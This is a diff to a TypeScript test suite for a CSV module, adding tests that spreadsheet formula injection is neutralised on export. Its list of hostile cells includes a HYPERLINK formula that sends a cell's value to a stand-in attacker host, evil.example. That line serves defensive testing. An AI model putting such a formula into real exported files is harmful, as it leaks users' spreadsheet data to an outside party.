@@ -26,10 +26,52 @@ describe('CSV', () => {
     expect(['a,b;c,d', 'a;b', 'a\tb\tc;d', 'a'].map(separatorOf)).toEqual([',', ';', '\t', ',']);
   });
 
-  test('a cell that a spreadsheet would calculate is neutralised, and comes back', () => {
-    const cells = ['=1+1', '+49', '-5', '@sum', 'a,b', 'say "x"', "'quoted'", 'two\nlines'];
-    const line = lineOfCells(cells);
-    expect(line.split(',')[0]).toBe("'=1+1");
-    expect(cellsOf(line, ',')).toEqual(cells);
+  const FORMULA = /^["'\s]*[=+\-@]/u;
+  const hostile = [
+    '=1+1',
+    '+49',
+    '-5',
+    '@sum',
+    '＝1',
+    'a;=HYPERLINK("http://evil.example?x="&A1)',
+    'a;"=1+1"',
+    'a; \t=1',
+    'two\n=lines',
+    'tab\t+1',
+    "a;'=1",
+  ];
+  const harmless = ['a,b', 'say "x"', "'quoted'", "a;'b'", 'two\nlines', 'a-b; c', '12:30', '', '120', '5.6'];
+
+  test('comes back as it was, and every text stands in quotes', () => {
+    const cells = [...hostile, ...harmless];
+    expect(cellsOf(lineOfCells(cells), ',')).toEqual(cells);
+    expect(lineOfCells(['tuna', '2', '2026-05-14T10:00:00+02:00', '', '-5'])).toBe(
+      `"tuna",2,2026-05-14T10:00:00+02:00,,"'-5"`,
+    );
+  });
+
+  test.each([';', ',', '\t', '\n'])(
+    'no cell of it is calculated, wherever a spreadsheet cuts it: at “%s”',
+    (separator) => {
+      for (const cell of hostile) {
+        for (const part of lineOfCells(['x', cell, 'y']).split(separator)) {
+          // the quote that the cell begins with is the file's own when the line is cut at commas
+          const seen = separator === ',' ? part.replace(/^"/u, '') : part;
+          expect([cell, FORMULA.test(seen) && !/^["\s]*'/u.test(seen)]).toEqual([cell, false]);
+        }
+      }
+    },
+  );
+
+  test('random texts come back', () => {
+    const signs = `;,\t\n"'=+-@ ab`.split('');
+    let seed = 1;
+    const next = (below: number) => (seed = (seed * 48_271) % 2_147_483_647) % below;
+    for (let round = 0; round < 3_000; round += 1) {
+      const text = Array.from({ length: next(9) }, () => signs[next(signs.length)])
+        .join('')
+        .trim();
+      expect(cellsOf(lineOfCells(['x', text]), ',')).toEqual(['x', text]);
+    }
   });
 });
